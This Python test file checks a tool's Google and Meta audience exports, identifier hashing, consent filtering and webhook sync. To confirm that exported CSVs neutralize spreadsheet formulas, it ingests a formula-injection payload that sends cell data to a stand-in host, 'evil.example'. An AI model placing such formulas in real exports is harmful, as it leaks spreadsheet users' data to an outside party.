"""audience_platforms_test.py: `tailor audiences export --format google|meta`
against the platforms' documented formats, and `tailor audiences sync`
through the webhook plugin to a local HTTP server (Python's http.server).

- the header is the platform's column names (Google Customer Match: Email,
  Phone; Meta Custom Audiences: email, phone) and a bid multiplier column
  with the shipped strategy's bid (visitors_2d: 1.4);
- identifiers are normalized as each platform documents (email trimmed and
  lower case, Google also drops the dots of a gmail.com local part; phone
  in E.164, "+" in Google's hash and not in Meta's) and SHA-256 hex: the
  hash of " Test@Example.com " is the known sha256("test@example.com");
  "+49 (0)30 ..." is +4930...; a --phone-country that is no calling code
  ("DE") is refused;
- only consented identifiers: the email with email consent, the phone with
  SMS consent; a customer who declined marketing, one with no consent and
  an anonymous visitor are not listed;
- sync POSTs the members added, then after consent is withdrawn, a customer
  erased and another one arrives, exactly those removed and that added; a
  sync with nothing changed sends nothing;
- a list that cannot be written (a full disk) exits 1, not 0;
- the ids' CSV (`--csv`, the console's download) puts a ' in front of an id
  a spreadsheet would run as a formula (= + - @).
"""

import csv
import hashlib
import io
import http.server
import json
import os
import re
import subprocess
import tempfile
import threading
import time

import deliver_kit as kit

checks = kit.Checks()
check = checks.check

SECRET = "whsec-audience-0123456789abcdef"
KNOWN = "973dfe463ec85785f5f95af5ba3906eedb2d931c24e69824a89ea65dba4e813b"


def sha(s):
    return hashlib.sha256(s.encode()).hexdigest()


class Hook(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self):
        self.bodies, self.keys = [], []
        super().__init__(("127.0.0.1", 0), Handler)


class Handler(http.server.BaseHTTPRequestHandler):
    def log_message(self, *args):
        pass

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.server.bodies.append(json.loads(body))
        self.server.keys.append(self.headers.get("Idempotency-Key"))
        self.send_response(200)
        self.send_header("Content-Length", "2")
        self.end_headers()
        self.wfile.write(b"{}")


def run(*args, ok=True):
    out = subprocess.run([kit.TAILOR] + list(args), capture_output=True, timeout=120)
    if ok and out.returncode:
        raise RuntimeError("%s: %s" % (args, out.stderr.decode()))
    return out.returncode, out.stdout.decode(), out.stderr.decode()


def ingest(db, events):
    path = db + ".in.ndjson"
    with open(path, "w") as f:
        for e in events:
            f.write(json.dumps(e) + "\n")
    run("ingest", "--db", db, "--strategies", "", path)


def customer(cid, email=None, phone=None, email_ok=False, sms_ok=False):
    c = {"id": cid, "consent": {"email": email_ok, "sms": sms_ok}}
    if email:
        c["email"] = email
    if phone:
        c["phone"] = phone
    return [{"type": "customer_upsert", "customer": c},
            {"type": "view", "customer": cid, "item": "hat"}]


def rows(text):
    lines = text.strip().split("\n")
    return lines[0], [line.split(",") for line in lines[1:]]


def test_formats_and_sync():
    d = tempfile.mkdtemp(prefix="audplat", dir=kit.TMP)
    db = os.path.join(d, "shop.db")
    strategies = os.path.join(kit.ROOT, "strategies")
    events = [{"type": "item_upsert", "item": {"id": "hat", "name": "Hat", "price": 20}}]
    events += customer("c1", " Test@Example.com ", "+1 (555) 010-0000", True, True)
    events += customer("c2", "John.Doe@Gmail.com", email_ok=True)
    events += customer("c3", "nobody@example.com", "+15550100003")      # no consent
    events += customer("c4", "declined@example.com", email_ok=True)
    events += [{"type": "consent", "customer": "c4", "props": {"marketing": False}}]
    events += customer("c5", phone="030 1234567", sms_ok=True)          # national number
    events += [{"type": "view", "anon": "v9", "item": "hat"}]
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    events += [{"type": "view", "anon": a, "item": "hat"} for a in (formula, "-2+3", "@SUM(1)")]
    ingest(db, events)

    _, out, _ = run("audiences", "export", "visitors", "--days", "2", "--csv", "--db", db)
    anons = {r[1] for r in list(csv.reader(io.StringIO(out)))[1:] if r[1]}
    check("ids' CSV: a formula is text, other ids as they are",
          anons == {"'" + formula, "'-2+3", "'@SUM(1)", "v9"}, anons)

    _, out, err = run("audiences", "export", "visitors", "--days", "2", "--format", "google",
                      "--db", db, "--strategies", strategies)
    head, body = rows(out)
    check("google header", head == "Email,Phone,Bid Multiplier", head)
    by_email = {r[0]: r for r in body}
    check("the known hash of test@example.com", KNOWN == sha("test@example.com")
          and KNOWN in by_email, body)
    check("E.164 phone with + (google)", by_email.get(KNOWN, [0, 0])[1] == sha("+15550100000"),
          by_email.get(KNOWN))
    check("gmail dots dropped (google)", sha("johndoe@gmail.com") in by_email, body)
    check("email without sms consent has no phone", by_email.get(sha("johndoe@gmail.com"),
                                                                  [0, 1])[1] == "", body)
    check("bid multiplier from the strategy", all(r[2] == "1.4" for r in body), body)
    check("no consent, declined marketing, anonymous, national phone: left out",
          len(body) == 2, body)

    _, out, _ = run("audiences", "export", "visitors", "--days", "2", "--format", "meta",
                    "--phone-country", "49", "--db", db, "--strategies", strategies)
    head, body = rows(out)
    check("meta header", head == "email,phone,bid_multiplier", head)
    emails = {r[0] for r in body}
    phones = {r[1] for r in body}
    check("meta: same email normalization, dots kept", KNOWN in emails and
          sha("john.doe@gmail.com") in emails, body)
    check("meta: phone digits without +", sha("15550100000") in phones, body)
    check("national number with the default country code, trunk 0 dropped",
          sha("49301234567") in phones, body)
    check("meta rows", len(body) == 3, body)
    _, plus, _ = run("audiences", "export", "visitors", "--days", "2", "--format", "meta",
                     "--phone-country", "+49", "--db", db, "--strategies", strategies)
    check("--phone-country +49 is 49", plus == out, plus)
    for cc in ("DE", "0049", "4912"):
        rc, out, err = run("audiences", "export", "visitors", "--days", "2", "--format",
                           "meta", "--phone-country", cc, "--db", db, ok=False)
        check("--phone-country %s refused, nothing listed" % cc, rc == 2 and
              "calling code" in err and len(out.strip().split("\n")) <= 1, (rc, out, err))

    rc, _, err = run("audiences", "export", "visitors", "--days", "2", "--format", "tiktok",
                     "--db", db, ok=False)
    check("unknown format refused", rc == 2 and "google or meta" in err, err)
    _, out, _ = run("audiences", "export", "visitors", "--days", "2", "--format", "google",
                    "--no-bid", "--db", db)
    check("--no-bid", out.split("\n")[0] == "Email,Phone", out)
    # "+49 (0)30 ...": the (0) is the trunk, no part of the E.164 number.
    db2 = os.path.join(d, "trunk.db")
    ingest(db2, customer("t1", phone="+49 (0)30 1234567", sms_ok=True)
           + customer("t2", phone="0049(0)30-7654321", sms_ok=True))
    _, out, _ = run("audiences", "export", "visitors", "--days", "2", "--format", "google",
                    "--db", db2)
    phones = {r[1] for r in rows(out)[1]}
    check("(0) after the country code dropped", phones ==
          {sha("+49301234567"), sha("+49307654321")}, phones)
    for how in (["--format", "google"], ["--csv"]):
        with open("/dev/full", "w") as full:
            p = subprocess.run([kit.TAILOR, "audiences", "export", "visitors", "--days", "2",
                                "--db", db] + how, stdout=full, stderr=subprocess.PIPE,
                               timeout=120)
        check("%s to a full disk fails" % how[0], p.returncode == 1 and
              b"cannot write" in p.stderr, (p.returncode, p.stderr))

    # Sync through the webhook plugin.
    hook = Hook()
    threading.Thread(target=hook.serve_forever, daemon=True).start()
    cfg = os.path.join(d, "tailor.json")
    with open(cfg, "w") as f:
        json.dump({"db": db, "strategies": strategies, "plugins": [
            {"path": os.path.join(kit.PLUGINS, "webhook.so"),
             "config": {"url": "http://127.0.0.1:%d/aud" % hook.server_address[1],
                        "secret": SECRET}}]}, f)
    sync = ["audiences", "sync", "visitors", "--days", "2", "--format", "google",
            "--config", cfg]
    try:
        _, _, err = run(*sync)
        check("first sync: 2 added", "2 added, 0 removed, pushed" in err, err)
        check("first POST", len(hook.bodies) == 1, hook.bodies)
        # The row's key names the channel and the change, not the time
        # alone: a sync to another channel in the same millisecond, or
        # with another change, is not dropped as a repeat of this one.
        key = hook.keys[0] or ""
        check("the row's key names channel and change",
              re.fullmatch(r"audience_sync:google:visitors:2:webhook:\d+:[0-9a-f]{16}", key), key)
        v = hook.bodies[0]["vars"]
        check("payload names the audience", v["audience"] == "visitors" and v["days"] == 2
              and v["format"] == "google" and hook.bodies[0]["template"] == "audience_sync", v)
        check("adds both", {a.get("email_sha256") for a in v["added"]} ==
              {KNOWN, sha("johndoe@gmail.com")} and v["removed"] == [], v)
        check("adds carry phone and bid", any(a.get("phone_sha256") == sha("+15550100000")
                                              and a["bid_multiplier"] == 1.4
                                              for a in v["added"]), v)

        _, _, err = run(*sync)
        check("nothing changed, nothing sent", "nothing to push" in err and
              len(hook.bodies) == 1, err)

        ingest(db, [{"type": "customer_upsert", "customer": {"id": "c2", "consent":
                                                             {"email": False}}}]
               + customer("c6", "new@example.com", email_ok=True))
        run("erase", "c1", "--db", db)
        _, _, err = run(*sync)
        check("second sync: 1 added, 2 removed", "1 added, 2 removed" in err, err)
        check("second POST", len(hook.bodies) == 2, hook.bodies)
        v = hook.bodies[-1]["vars"]
        check("adds the newcomer", [a.get("email_sha256") for a in v["added"]] ==
              [sha("new@example.com")], v)
        check("removes the withdrawn and the erased, with their identifiers",
              {r.get("email_sha256") for r in v["removed"]} ==
              {KNOWN, sha("johndoe@gmail.com")} and
              any(r.get("phone_sha256") == sha("+15550100000") for r in v["removed"]), v)
    finally:
        hook.shutdown()
        hook.server_close()


if __name__ == "__main__":
    checks.run(test_formats_and_sync)
    raise SystemExit(checks.done())
